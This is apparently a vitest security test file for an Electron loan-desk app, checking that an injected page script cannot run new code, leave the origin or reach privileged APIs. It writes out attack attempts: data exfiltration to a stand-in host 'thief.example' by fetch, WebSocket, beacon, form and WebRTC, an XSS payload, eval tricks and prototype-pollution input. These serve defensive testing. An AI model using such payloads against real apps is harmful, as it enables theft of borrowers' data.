import { once } from 'node:events'
import { createServer, type AddressInfo } from 'node:net'
import { describe, expect, it } from 'vitest'
import { deskScreens } from '../../support/screens/desk-screens.ts'
import { standInSuite } from '../../support/stand-in-suite.ts'

/*
 * The story: somebody got a script to run in the desk's page. They want borrowers' data out, more of
 * their code in, or the desk on its knees. Attacked is what is built, main and preload unchanged, in
 * a real Chromium; start-stand-in.ts says what of Electron that can show.
 */

const suite = standInSuite()

describe('the window', () => {
  it('was opened after the sandbox was switched on for every page, and closed to everything', async () => {
    const { calls, schemes, sessions, windows, menu } = await suite.desk.electron.records()
    expect(calls.indexOf('app.enableSandbox')).toBeLessThan(calls.indexOf('ready'))
    expect(schemes).toEqual([
      { scheme: 'app', privileges: { standard: true, secure: true, codeCache: true } },
    ])
    expect(sessions).toContainEqual({ partition: 'desk', options: { cache: false } })
    expect(sessions.every(({ partition }) => !partition.startsWith('persist:'))).toBe(true)
    expect(windows).toHaveLength(1)
    expect(windows[0]).toMatchObject({ session: 'desk', title: 'Loan Desk' })
    expect(windows[0]?.webPreferences).toEqual({
      session: 'own',
      preload: expect.stringMatching(/out.preload.preload\.cjs$/) as string,
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      webviewTag: false,
      plugins: false,
      experimentalFeatures: false,
      navigateOnDragDrop: false,
      safeDialogs: true,
      spellcheck: false,
      // This is a checkout; an installed app has none.
      devTools: true,
    })
    expect(menu).not.toContain('reload')
    expect(menu).not.toContain('forceReload')
  })

  it('gives its page two functions, frozen, and nothing of the preload’s world', async () => {
    const seen = await suite.inPage(() => {
      const page = globalThis as unknown as { loanDesk: object }
      const known = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'global']
      try {
        page.loanDesk = {}
      } catch {
        // It stays what it is.
      }
      return {
        keyhole: Object.keys(page.loanDesk).sort(),
        frozen: Object.isFrozen(page.loanDesk),
        others: known.filter((name) => name in globalThis),
      }
    })
    expect(seen).toEqual({ keyhole: ['request', 'subscribe'], frozen: true, others: [] })
  })
})

describe('a script in the page', () => {
  it('cannot make more of itself: no inline script, no text that becomes a script or markup', async () => {
    const ran = await suite.inPage(async () => {
      const page = globalThis as unknown as Record<string, unknown>
      const attempts: Record<string, () => unknown> = {
        inline: () => {
          const script = document.createElement('script')
          script.text = 'globalThis.ranInline = true'
          document.body.append(script)
        },
        attribute: () => {
          const button = document.createElement('button')
          button.setAttribute('onclick', 'globalThis.ranAttribute = true')
          document.body.append(button)
          button.click()
        },
        markup: () => {
          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ranMarkup = true">')
        },
        written: () => {
          const old = document as unknown as { write(text: string): void }
          old.write('<script>ranWritten = true</script>')
        },
        eval: () => Reflect.apply(globalThis.eval, null, ['globalThis.ranEval = true']) as unknown,
        function: () => {
          const made: unknown = Reflect.construct(Function, ['globalThis.ranFunction = true'])
          ;(made as () => void)()
        },
        timer: () => setTimeout('globalThis.ranTimer = true' as unknown as () => void),
        policy: () => {
          const { trustedTypes } = globalThis as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown }
          }
          trustedTypes.createPolicy('mine', {})
          page['ranPolicy'] = true
        },
        dataScript: () => {
          const script = document.createElement('script')
          script.src = 'data:text/javascript,globalThis.ranData=true'
          document.body.append(script)
        },
      }
      const stopped: string[] = []
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt()
        } catch {
          stopped.push(name)
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 50))
      return {
        ran: Object.keys(page).filter((name) => name.startsWith('ran')),
        stopped,
      }
    })
    expect(ran.ran).toEqual([])
    expect(ran.stopped).toEqual(
      expect.arrayContaining(['inline', 'markup', 'written', 'eval', 'function', 'policy']),
    )
  })

  it('reaches no other origin: not by fetch, socket, beacon, picture, frame, worker or form', async () => {
    const reached = await suite.inPage(async () => {
      const got: string[] = []
      const outcome = (name: string, attempt: Promise<unknown>) =>
        attempt.then(
          () => got.push(name),
          () => undefined,
        )
      const element = (tag: string, set: Record<string, string>) =>
        new Promise((resolve, reject) => {
          const made = document.createElement(tag)
          made.addEventListener('load', resolve)
          made.addEventListener('error', reject)
          Object.assign(made, set)
          document.body.append(made)
          setTimeout(reject, 1_000)
        })
      const outside = 'https://thief.example/?data=borrower'
      await Promise.all([
        outcome('fetch', fetch(outside, { mode: 'no-cors' })),
        outcome('loopback', fetch('http://127.0.0.1:1/')),
        outcome('own origin', fetch('/index.html')),
        outcome('picture', element('img', { src: outside })),
        outcome('style', element('link', { rel: 'stylesheet', href: outside })),
        outcome('module', element('link', { rel: 'modulepreload', href: outside })),
        outcome(
          'socket',
          new Promise((resolve, reject) => {
            const socket = new WebSocket('wss://thief.example/')
            socket.addEventListener('open', resolve)
            socket.addEventListener('error', reject)
          }),
        ),
        outcome(
          'worker',
          new Promise((resolve, reject) => {
            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
            worker.addEventListener('message', resolve)
            worker.addEventListener('error', reject)
          }),
        ),
      ])
      navigator.sendBeacon(outside, 'borrower')
      const frame = document.createElement('iframe')
      frame.src = outside
      const form = document.createElement('form')
      form.action = outside
      form.method = 'post'
      document.body.append(frame, form)
      form.submit()
      return got
    })
    expect(reached).toEqual([])
    expect(suite.desk.window.turnedAway).toEqual([])
    expect(suite.page.url()).toBe('https://desk.app.invalid/')
  })

  it('reaches no peer, of which no policy of contents says anything', async () => {
    let reached = 0
    const peer = createServer((socket) => {
      reached += 1
      socket.destroy()
    })
    peer.listen(0, '127.0.0.1')
    await once(peer, 'listening')
    const { port } = peer.address() as AddressInfo
    const attempt = async (turn: string): Promise<number> => {
      const connection = new RTCPeerConnection({
        iceServers: [{ urls: turn, username: 'data of a borrower', credential: 'x' }],
      })
      const { promise, resolve } = Promise.withResolvers<null>()
      connection.addEventListener('icegatheringstatechange', () => {
        if (connection.iceGatheringState === 'complete') resolve(null)
      })
      connection.createDataChannel('borrower')
      await connection.setLocalDescription(await connection.createOffer())
      await promise
      connection.close()
      return 1
    }
    const turn = `turn:127.0.0.1:${port}?transport=tcp`
    expect(await suite.page.evaluate(attempt, turn)).toBe(1)
    expect(reached).toBe(0)

    // Where the session is not led nowhere it does.
    const open = await suite.page.context().browser()?.newPage()
    await open?.evaluate(attempt, turn)
    await open?.close()
    expect(reached).toBeGreaterThan(0)
    peer.close()
    const { calls } = await suite.desk.electron.records()
    expect(calls).toContain('contents.setWebRTCIPHandlingPolicy disable_non_proxied_udp')
  })

  it('goes nowhere, opens no window and starts no download', async () => {
    const { page } = suite
    await page.evaluate(() => {
      location.href = 'https://thief.example/'
    })
    await expect
      .poll(() => suite.desk.window.turnedAway)
      .toContain('navigation https://thief.example/')
    await page.evaluate(() => {
      // A page of the app's own folder is no page of the desk either.
      location.href = '/assets/none.html'
    })
    await expect
      .poll(() => suite.desk.window.turnedAway)
      .toContain('navigation app://desk/assets/none.html')
    await page.evaluate(() => {
      globalThis.open('https://thief.example/')
      const link = document.createElement('a')
      link.href = 'https://thief.example/two'
      link.target = '_blank'
      document.body.append(link)
      link.click()
    })
    await expect.poll(() => suite.desk.window.turnedAway).toContain('window https://thief.example/')
    await expect
      .poll(() => suite.desk.window.turnedAway)
      .toContain('window https://thief.example/two')
    await expect.poll(() => page.context().pages()).toHaveLength(1)
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = 'data:application/octet-stream,borrower'
      link.download = 'invoice.exe'
      document.body.append(link)
      link.click()
    })
    await expect.poll(() => suite.desk.window.turnedAway).toContain('download')
    expect(page.url()).toBe('https://desk.app.invalid/')
    await page.getByRole('searchbox', { name: 'Search applications' }).waitFor()
  })

  it('is granted nothing but to write text to the clipboard, whichever way it asks', async () => {
    const asked = await suite.inPage(async () => {
      const state = async (name: string) =>
        (await navigator.permissions.query({ name: name as PermissionName })).state
      const outcome = (attempt: Promise<unknown>) =>
        attempt.then(
          () => 'granted',
          () => 'denied',
        )
      return {
        geolocation: await state('geolocation'),
        notifications: await state('notifications'),
        camera: await outcome(navigator.mediaDevices.getUserMedia({ video: true })),
        read: await outcome(navigator.clipboard.readText()),
      }
    })
    expect(asked).toEqual({
      geolocation: 'denied',
      notifications: 'denied',
      camera: 'denied',
      read: 'denied',
    })
    const { electron } = suite.desk
    expect(await electron.mayUse('clipboard-sanitized-write', 'check')).toBe(true)
    for (const way of ['request', 'check', 'device', 'display-media'] as const) {
      for (const permission of ['hid', 'usb', 'openExternal', 'fileSystem', 'local-fonts']) {
        expect(await electron.mayUse(permission, way), `${permission} by ${way}`).toBe(false)
      }
    }
  })

  it('that a lender wrote into a borrower’s field is shown as the text it is', async () => {
    const { worklist, application, page } = deskScreens(suite.page)
    await worklist.open('app_smplMarkup')
    expect(await application.field('Merchant paid')).toBe(
      '<img src=x onerror=alert(1)> & "Sons" </script>',
    )
    expect(await page.locator('img[src="x"]').count()).toBe(0)
  })

  it('hands over what cannot be cloned to nobody, and gets no answer that is not plain', async () => {
    const answers = await suite.inPage(async () => {
      const { loanDesk } = globalThis as unknown as {
        loanDesk: { request(channel: unknown, payload: unknown): Promise<unknown> }
      }
      const outcome = async (channel: unknown, payload: unknown) => {
        try {
          const answer = (await loanDesk.request(channel, payload)) as {
            error?: { code: string }
          }
          return answer.error?.code ?? 'answered'
        } catch {
          return 'threw'
        }
      }
      const deep: Record<string, unknown> = {}
      let at = deep
      for (let depth = 0; depth < 100; depth += 1) at = at['in'] = {} as typeof at
      return [
        await outcome('settings.read', {}),
        await outcome('settings.read', { then: () => undefined }),
        await outcome('settings.read', new Map([['a', 1]])),
        await outcome('settings.read', new Date(0)),
        await outcome('settings.read', JSON.parse('{"__proto__":{"ok":true}}')),
        await outcome('settings.read', deep),
        await outcome('constructor', {}),
        await outcome({ toString: 'settings.read' }, {}),
        await outcome(undefined, undefined),
      ]
    })
    expect(answers).toEqual([
      'answered',
      'threw',
      'payload-invalid',
      'payload-invalid',
      'payload-invalid',
      'payload-too-large',
      'channel-unknown',
      'channel-unknown',
      'channel-unknown',
    ])
  })
})

describe('a page that asks without end', () => {
  it('is answered each time, and from some point on with a refusal', async () => {
    const codes = await suite.inPage(async () => {
      const { loanDesk } = globalThis as unknown as {
        loanDesk: {
          request(channel: string, payload: unknown): Promise<{ error?: { code: string } }>
        }
      }
      const asked = Array.from({ length: 3_000 }, () => loanDesk.request('settings.read', {}))
      const answers = await Promise.all(asked)
      return answers.map(({ error }) => error?.code ?? 'answered')
    })
    expect(codes).toHaveLength(3_000)
    expect(new Set(codes)).toEqual(new Set(['answered', 'too-many-requests']))
    expect(codes.slice(0, 500)).not.toContain('too-many-requests')
  })
})
